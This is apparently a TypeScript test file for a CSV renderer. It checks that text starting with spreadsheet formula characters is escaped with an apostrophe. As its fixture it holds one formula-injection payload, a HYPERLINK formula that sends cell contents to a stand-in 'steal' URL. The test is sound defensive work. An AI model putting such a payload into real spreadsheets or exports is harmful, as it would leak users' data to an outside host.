// A recommendation whose text starts like a spreadsheet formula must reach mapping.csv as text.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { buildRun } from '../../src/pipeline/run.ts';
import { csvField, renderCsv } from '../../src/renderers/csv/index.ts';
import { corpusPath } from '../support/shared.ts';
import { parseCsv } from './read-back.ts';

const LIVE = '=HYPERLINK("http://example.invalid/steal?d="&A1,"Click")';

describe('mapping.csv of the European report with a formula planted in a recommendation', async () => {
  const run = await buildRun([corpusPath('rpm-europe.txt')], { now: new Date('2026-11-24T00:00:00Z') });
  const first = run.recommendations[0];
  assert.ok(first !== undefined && first.topics.length > 0);
  const planted = { ...run, recommendations: [{ ...first, text: `${LIVE} ${first.text}` }, ...run.recommendations.slice(1)] };
  const rows = parseCsv(renderCsv(planted).slice(1));

  it('writes the formula behind an apostrophe, so that a spreadsheet shows it and does not run it', () => {
    const cells = rows.filter((r) => r[0] === first.citation).map((r) => r[12]);
    assert.equal(cells.length, first.topics.length);
    for (const cell of cells) assert.equal(cell, `'${LIVE} ${first.text}`);
    assert.ok(rows.every((r) => r.every((cell) => !/^[=+\-@\t\r]/.test(cell))));
  });

  it('leaves every other text cell as the report has it', () => {
    const second = run.recommendations[1];
    assert.ok(second !== undefined);
    assert.equal(rows.find((r) => r[0] === second.citation)?.[12], second.text);
  });

  it('defuses each character a spreadsheet starts a formula with, and no number', () => {
    assert.deepEqual(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx'].map(csvField), ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", `"'\rx"`]);
    assert.equal(csvField(-0.5), '-0.5');
    assert.equal(csvField('a "b", c'), '"a ""b"", c"');
  });
});
